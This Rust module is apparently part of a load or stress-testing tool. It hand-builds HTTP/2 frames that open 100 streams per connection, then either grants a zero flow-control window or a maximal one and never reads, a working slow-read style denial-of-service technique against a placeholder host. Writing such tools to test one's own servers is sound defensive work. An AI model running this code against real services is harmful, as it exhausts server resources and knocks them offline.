//! HTTP/2 as an attacker speaks it: as much as it may ask at once, and no answer is taken (RFC 9113).

use std::sync::atomic::{AtomicU64, Ordering};

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;

use crate::Result;

/// What is asked on every stream.
pub(super) struct Asking {
    pub(super) path: String,
    pub(super) token: Option<String>,
}

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 1;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GOAWAY: u8 = 7;
const WINDOW_UPDATE: u8 = 8;
/// Of HEADERS: nothing follows.
const WHOLE: u8 = 0x5;
const ACK: u8 = 0x1;
/// Requests at once, as the server's default allows.
const STREAMS: u32 = 100;

/// Asks [`STREAMS`] requests. On every other connection the other side may send nothing of a body, and it is told that
/// this one lives; on the rest it may send all, and nothing is read.
pub(super) async fn ask(mut stream: TcpStream, asking: &Asking, lane: u32, asked: &AtomicU64) -> Result<()> {
    let window: u32 = if lane.is_multiple_of(2) { 0 } else { (1 << 31) - 1 };
    // SETTINGS_INITIAL_WINDOW_SIZE.
    let mut settings = vec![0, 4];
    settings.extend_from_slice(&window.to_be_bytes());
    let mut out = PREFACE.to_vec();
    frame(&mut out, SETTINGS, 0, 0, &settings);
    if window > 0 {
        frame(&mut out, WINDOW_UPDATE, 0, 0, &(window - 65_535).to_be_bytes());
    }
    let block = header_block(asking);
    for n in 0..STREAMS {
        frame(&mut out, HEADERS, WHOLE, n * 2 + 1, &block);
    }
    asked.fetch_add(u64::from(STREAMS), Ordering::Relaxed);
    stream.write_all(&out).await?;
    if window > 0 {
        std::future::pending::<()>().await;
    }
    let mut head = [0; 9];
    let mut payload = Vec::new();
    loop {
        stream.read_exact(&mut head).await?;
        let [a, b, c, kind, flags, ..] = head;
        payload.resize(u32::from_be_bytes([0, a, b, c]).try_into()?, 0);
        stream.read_exact(&mut payload).await?;
        out.clear();
        match kind {
            SETTINGS if flags & ACK == 0 => frame(&mut out, SETTINGS, ACK, 0, &[]),
            PING if flags & ACK == 0 => frame(&mut out, PING, ACK, 0, &payload),
            GOAWAY => return Ok(()),
            _ => {}
        }
        stream.write_all(&out).await?;
    }
}

fn frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let length = u32::try_from(payload.len()).unwrap_or_default().to_be_bytes();
    out.extend_from_slice(&length[1..]);
    out.extend_from_slice(&[kind, flags]);
    out.extend_from_slice(&stream.to_be_bytes());
    out.extend_from_slice(payload);
}

/// Header fields, each literal and not indexed (RFC 7541 §6.2.2).
fn header_block(asking: &Asking) -> Vec<u8> {
    let mut out = Vec::new();
    let mut field = |name: &str, value: &str| {
        out.push(0);
        text(&mut out, name);
        text(&mut out, value);
    };
    field(":method", "GET");
    field(":scheme", "http");
    field(":path", &asking.path);
    field(":authority", "sigill.example");
    if let Some(token) = &asking.token {
        field("authorization", &format!("Bearer {token}"));
    }
    out
}

/// A text with its length before it (RFC 7541 §5.1, §5.2).
fn text(out: &mut Vec<u8>, text: &str) {
    match u8::try_from(text.len()) {
        Ok(length @ ..127) => out.push(length),
        _ => {
            out.push(127);
            let mut rest = text.len() - 127;
            while rest >= 128 {
                out.push(u8::try_from(rest % 128).unwrap_or_default() | 128);
                rest /= 128;
            }
            out.push(u8::try_from(rest).unwrap_or_default());
        }
    }
    out.extend_from_slice(text.as_bytes());
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frames_and_texts_are_as_the_rfcs_write_them() {
        let mut out = Vec::new();
        frame(&mut out, PING, ACK, 1, b"12345678");
        assert_eq!(out, b"\x00\x00\x08\x06\x01\x00\x00\x00\x0112345678");
        out.clear();
        text(&mut out, "a");
        text(&mut out, &"b".repeat(127 + 130));
        assert_eq!(out[..5], [1, b'a', 127, 2 | 128, 1]);
    }
}
